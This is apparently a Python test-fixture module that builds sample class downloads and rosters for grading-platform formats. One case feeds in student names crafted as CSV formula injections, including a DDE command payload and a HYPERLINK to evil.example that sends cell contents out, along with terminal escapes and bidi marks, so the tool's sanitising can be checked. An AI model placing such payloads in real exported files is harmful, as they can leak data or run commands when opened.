        expected, twice={people[0].id: entries}, entries=expected.entries | {people[0].id: entries},
        attempts=expected.attempts | {people[0].id: both},
    )  # fmt: skip
    return _finish(folder, [made.write(folder, "class")], people, expected)


HOSTILE_NAMES = (
    ('=HYPERLINK("evil.example","click")', "Formula"),
    ("+1+cmd|' ⁄C calc'!A0", "Plus"),
    ("@SUM(1,2)", "At"),
    ("-2+3", "Minus"),
    ("\x1b[31mRed\x1b[0m", "Escape"),
    ("\x1b]0;owned\x07", "Title"),
    ("\u202eevissap\u202c", "Bidi"),
    ("Zero\u200bWidth", "Space"),
    ("Line\rReturn", "Carriage"),
)
"""Given and family names that want to do something where they are shown."""


def _hostile_names(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Names that are formulas, terminal escapes or marks that turn the line."""
    people = [
        _person(f"00{n:02d}", given, family, f"h{n}", 300 + n)
        for n, (given, family) in enumerate(HOSTILE_NAMES)
    ]
    handed_in = _handed(people, contents, rng)
    absent = '=HYPERLINK("http://evil.example?"&A1,"click")'
    people.append(_person("0099", absent, "Absent", "absent", 398))
    stranger = _person("x", "\x1b[2J=1+1\u202e", "Nobody", "nobody", 399)
    handed_in += _handed([stranger], contents, rng, enrolled=False)
    made = folders(handed_in, contents.assignment, litter=False)
    expected = expect(
        "folders",
        handed_in,
        made,
        people,
        raw=("\x1b[31m", "\x1b]0;", "\x1b[2J", "\x07", "Line\r", "\u202e"),
        formulas=("=", "+", "@", "-", "\t", "\r"),
    )
    sheets = {
        "canvas": canvas_gradebook(folder, people),
        "moodle": moodle_worksheet(folder, people),
    }
    return _finish(folder, [made.write(folder, "class")], people, expected, sheets=sheets)


def _twins(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Two names that differ by normalisation only, two by capital letters only; one is sure."""
    decomposed = unicodedata.normalize("NFD", "Zoë")
    people = [
        _person("0001", "Zoë", "Blå", "z1", 401),
        _person("0002", decomposed, unicodedata.normalize("NFD", "Blå"), "z2", 402),
        _person("0003", "Ada", "MacLean", "a1", 403),
        _person("0004", "Ada", "Maclean", "a2", 404),
        _person("0005", "René", "Noël", "r1", 405),
    ]
    handed_in = _handed(people, contents, rng)
    made = folders(
        handed_in, contents.assignment,
        name_of=lambda i, p: unicodedata.normalize("NFD", p.name) if i == 4 else p.name,
    )  # fmt: skip
    expected = expect("folders", handed_in, made, people)
    pairs = ((0, 1), (1, 0), (2, 3), (3, 2))
    expected = replace(
        expected,
        exact_or_ambiguous={made.entries[a][0]: (people[a].id, people[b].id) for a, b in pairs},
    )
    return _finish(folder, [made.write(folder, "class")], people, expected)


def _rosters(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """The same people on rosters of many shapes, all of which mean the same; and refused ones."""
    people = a_class(count, rng)
    handed_in = _handed(people[:-1], contents, rng)
    made = folders(handed_in, contents.assignment, name_of=lambda i, p: NAMED_AFTER[i % 6](p))
    extra: dict[str, Callable[[Person], str]] = {
        "Tutor": lambda p: f"Tutor {p.section}; =1+1",
        "note": lambda p: 'says "hello",\nand more' if p.number % 2 else "",
    }
    columns = {p.id: {head: read(p) for head, read in extra.items()} for p in people}
    expected = expect("folders", handed_in, made, people, columns=columns)
    built = _finish(
        folder,
        [made.write(folder, "class")],
        people,
        expected,
        roster_bytes=roster(people, extra=extra),
    )
    shapes = {
        "bom": roster(people, extra=extra, bom=True),
        "semicolons": roster(people, extra=extra, delimiter=";"),
        "tabs": roster(people, extra=extra, delimiter="\t"),
        "crlf": roster(people, extra=extra, end="\r\n"),
        "capitals": roster(people, extra=extra, heads=("ID", "Name", "Login", "E-Mail", "Section")),
        "email": roster(people, extra=extra, heads=("id", "name", "login", "email", "section")),
        "other_order": roster(
            people, extra=extra, heads=("section", "e-mail", "login", "name", "id")
        ),
        "spaces": roster(
            people, extra=extra, heads=(" id", "name ", " login", "e-mail", "section ")
        ),
        "last_first": roster(people, extra=extra, name_of=lambda p: p.last_first),
        "decomposed": roster(
            people, extra=extra, name_of=lambda p: unicodedata.normalize("NFD", p.name)
        ),
        "blank_lines": roster(people, extra=extra) + b"\n\n",
    }
    rosters, refused = {}, {}
    (folder / "rosters").mkdir()
    (folder / "bad rosters").mkdir()
    for name, body in shapes.items():
        rosters[name] = folder / "rosters" / f"{name}.csv"
        rosters[name].write_bytes(body)
    for name, (body, wrong) in bad_rosters(people).items():
        refused[name] = (folder / "bad rosters" / f"{name}.csv", wrong)
        refused[name][0].write_bytes(body)
    return replace(built, rosters=rosters, bad_rosters=refused)


def _roster_doubled(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Two rows stand twice, word for word; two people share a name; one e-mail is empty."""
    people = a_class(5, rng)
    people[4] = replace(people[4], email="", login="")
    same = [_person(f"00800{n}", "Kim", "Lee", f"kl{n}", 600 + n) for n in (1, 2)]
    handed_in = _handed([*people, same[0]], contents, rng)
    made = folders(handed_in, contents.assignment)
    enrolled = [*people, *same]
    expected = expect("folders", handed_in, made, enrolled, doubled=(people[0].id, people[2].id))
    expected = _set_apart(_Class(enrolled, handed_in, same), replace(expected, nothing=()), made)
    body = roster(enrolled, again=[people[0], people[2]])
    return _finish(folder, [made.write(folder, "class")], enrolled, expected, roster_bytes=body)


def _leading_zeros(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Ids that are the same number and not the same id: 7, 07 and 007. Also 1e5 and 100000."""
    ids = ("7", "07", "007", "1e5", "100000", "0x10")
    people = [
        _person(id_, *pair, f"z{n}", 700 + n)
        for n, (id_, pair) in enumerate(
            zip(
                ids,
                (("Ada", "A"), ("Bo", "B"), ("Cy", "C"), ("Di", "D"), ("Ed", "E"), ("Flo", "F")),
                strict=True,
            )
        )
    ]
    handed_in = _handed(people, contents, rng)
    made = nbgrader(handed_in, contents.assignment)
    expected = expect("nbgrader", handed_in, made, people)
    sheets = {
        "canvas": canvas_gradebook(folder, people),
        "canvas_zeros_lost": canvas_gradebook(folder, people, name="zeros_lost", zeros_lost=True),
        "moodle": moodle_worksheet(folder, people, newer=True),
    }
    sheets["canvas_zeros_lost"] = replace(sheets["canvas_zeros_lost"], may_refuse=True)
    return _finish(folder, [made.write(folder, "course")], people, expected, sheets=sheets)


def _without_roster(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """No roster: whoever handed in is a student, and is called as the download calls them."""
    people = a_class(count, rng)
    named = [replace(person, id=person.name) for person in people]
    handed_in = _handed(named, contents, rng)
    made = folders(handed_in, contents.assignment, as_zips=lambda i: i % 2 == 0)
    expected = expect("folders", handed_in, made, named)
    return Built(folder, (made.write(folder, "class"),), None, expected, tuple(named))


def _sheets(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
    """Grade files of Canvas and Moodle in all their shapes, for a class with two namesakes."""
    people = a_class(count, rng)
    same = [_person(f"00900{n}", "Kim", "Lee", f"klee{n}", 88000 + n, str(n)) for n in (1, 2)]
    enrolled = [*people, *same]
    stranger = a_class(count + 1, rng, begin=700)[-1]
    stranger = replace(
        stranger, given="Not", family="Enrolled", login="not-enrolled", email="n@uni.example"
    )
    handed_in = _handed(enrolled[1:], contents, rng)
    made = folders(handed_in, contents.assignment, name_of=lambda i, p: p.id)
    expected = expect("folders", handed_in, made, enrolled)
    old = {people[1].id: "3.50", people[2].id: "0.00"}

    def ours(name: str, **how: Any) -> Sheet:
        return canvas_gradebook(folder, enrolled, name=f"canvas_{name}", **how)

    def theirs(name: str, **how: Any) -> Sheet:
        return moodle_worksheet(folder, enrolled, name=f"moodle_{name}", **how)

    sheets = [
        ours("plain"),
        ours("blank_row", above="blank", old=old),
        ours("posting_row", above="posting", old=old),
        ours("bom", bom=True),
        ours("semicolons", delimiter=";"),
        ours("zeros_lost", zeros_lost=True),
        ours("login_is_email", login_is_email=True),
        ours("names_only", names_only=True),
        ours("no_column", no_column=True),
        ours("strangers", strangers=[stranger], without=[people[3]]),
        ours("twice", again=[people[1]]),
        ours("sections", sections="Section {0} and Lab {0}"),
        ours("other_points", points=70),
        theirs("plain"),
        theirs("newer", newer=True, old=old),
        theirs("old_grades", old=old),
        theirs("no_bom", bom=False, end="\n"),
        theirs("strangers", strangers=[stranger], without=[people[3]]),
        theirs("twice", again=[people[1]]),
        theirs("closed", closed=[people[2]]),
        theirs("no_email", no_email=True),
        theirs("no_feedback", no_feedback=True),
        theirs("decimal_comma", old=old, comma=True),
        theirs("other_points", points=100),
    ]
    named = {PurePosixPath(sheet.path).stem: sheet for sheet in sheets}
    return _finish(folder, [made.write(folder, "class")], enrolled, expected, sheets=named)


def _refused(kind: str) -> Make:
    """Downloads that hold no class at all."""

    def make(folder: Path, contents: Contents, rng: random.Random, count: int) -> Built:
        people = a_class(3, rng)
        handed_in = _handed(people, contents, rng)
        layout = "folders"
        if kind == "mixed":
            both = canvas(handed_in[:2], contents.assignment).tree
            both |= moodle(handed_in[2:], contents.assignment).tree
            path = lay(both, folder / "download")
        elif kind == "one_student":
            path = lay(dict(handed_in[0].last.files), folder / "download")
        elif kind == "empty_folder":
            path = lay({}, folder / "download")
        elif kind == "broken_table":
            tree: Tree = {
                "submission_metadata.yml": b"submission_1: [\n\t:submitters",
                "submission_1/": b"",
            }
            path, layout = lay(tree, folder / "download"), "gradescope"
        else:
            whole = canvas(handed_in, contents.assignment).tree
            body = {"empty_zip": zipped({}), "zero_bytes": b"", "text": b"Dear all\n"}.get(
                kind, zipped(whole)[:-400]
            )
            path = folder / ("download.txt" if kind == "text" else "download.zip")
            path.write_bytes(body)
        told = kind != "mixed"
        expected = Expected(layout, told, nothing=tuple(p.id for p in people), refused=kind)
        return _finish(folder, [path], people, expected)

    return make


def _cases() -> Iterator[Case]:
    usual: dict[str, tuple[str, Make, str]] = {
        "canvas": ("canvas", _make_canvas(as_zip=True), "submissions.zip, a zip per student"),
        "canvas_unpacked": ("canvas", _make_canvas(as_zip=False), "the same, unpacked"),
        "canvas_singly": ("canvas", _make_canvas(as_zip=True, singly=True), "files one by one"),
        "moodle": ("moodle", _make_moodle(as_zip=True), "a folder with a zip per student"),
        "moodle_unpacked": (
            "moodle",
            _make_moodle(as_zip=False, inside="files", ending=""),
            "folders with files",
        ),
        "moodle_flat": ("moodle", _make_moodle(as_zip=True, flat=True), "without folders"),
        "gradescope": (
            "gradescope",
            _make_gradescope(as_zip=True),
            "export, as a zip, with groups",
        ),
        "gradescope_unpacked": (
            "gradescope",
            _make_gradescope(as_zip=False, ruby_objects=True),
            "older export, as a folder",
        ),
        "github": ("github", _make_github(classroom_50=False), "clones of GitHub Classroom"),
        "classroom_50": ("github", _make_github(classroom_50=True), "clones of Classroom 50"),
        "nbgrader": (
            "nbgrader",
            _make_nbgrader(timestamps=True),
            "a course folder with submitted/",
        ),
        "nbgrader_inner": (
            "nbgrader",
            _make_nbgrader(timestamps=False, inner=True),
            "the folder submitted/ itself",
        ),
        "folders": ("folders", _make_folders(as_zip=False), "folders and zips named after people"),
        "folders_zipped": ("folders", _make_folders(as_zip=True), "the same in one zip"),
        "single_files": ("folders", _make_single_files, "all files in one folder, <who>_<file>"),
    }
    for number, (name, (layout, make, about)) in enumerate(usual.items()):
        yield Case(f"{name}_small", layout, about, 1000 + number, 6, make)
        yield Case(
            f"{name}_200",
            layout,
            f"{about}; hostile and repeated ones among them",
            2000 + number,
            200,
            make,
        )
    special: dict[str, tuple[str, Make, int]] = {
        "spoiled_zips": ("moodle", _spoiled("zips"), len(IN_ZIPS) + 1),
        "spoiled_folders": ("moodle", _spoiled("folders"), len(IN_FOLDERS) + 1),
        "canvas_names": ("canvas", _canvas_names, 7),
        "canvas_mixed": ("canvas", _canvas_mixed, 6),
        "canvas_one_file_again": ("canvas", _canvas_one_file_again, 4),
        "canvas_anonymous": ("canvas", _canvas_anonymous, 4),
        "canvas_two_downloads": ("canvas", _two_downloads, 6),
        "moodle_names": ("moodle", _moodle_names, 7),
        "moodle_blind": ("moodle", _moodle_blind, 4),
        "moodle_groups": ("moodle", _moodle_groups, 4),
        "gradescope_hostile": ("gradescope", _gradescope_hostile, 3),
        "gradescope_two_groups": ("gradescope", _gradescope_two_groups, 2),
        "github_logins": ("github", _github_logins, 8),
        "twice_by_name": ("folders", _twice_by_name, 4),
        "hostile_names": ("folders", _hostile_names, 10),
        "twins": ("folders", _twins, 5),
        "rosters": ("folders", _rosters, 7),
        "roster_doubled": ("folders", _roster_doubled, 6),
        "leading_zeros": ("nbgrader", _leading_zeros, 6),
        "without_roster": ("folders", _without_roster, 4),
        "sheets": ("folders", _sheets, 6),
    }
    for number, (name, (layout, make, count)) in enumerate(special.items()):
        yield Case(name, layout, " ".join((make.__doc__ or "").split()), 3000 + number, count, make)
    for number, kind in enumerate(
        (
            "empty_folder",
            "empty_zip",
            "zero_bytes",
            "truncated_zip",
            "text",
            "broken_table",
            "mixed",
            "one_student",
        )
    ):
        yield Case(
            f"refused_{kind}",
            "folders",
            "A download that holds no class.",
            4000 + number,
            3,
            _refused(kind),
        )


CASES: tuple[Case, ...] = tuple(_cases())
"""All cases."""


def case(name: str) -> Case:
    """The case of this name."""
    return next(each for each in CASES if each.name == name)
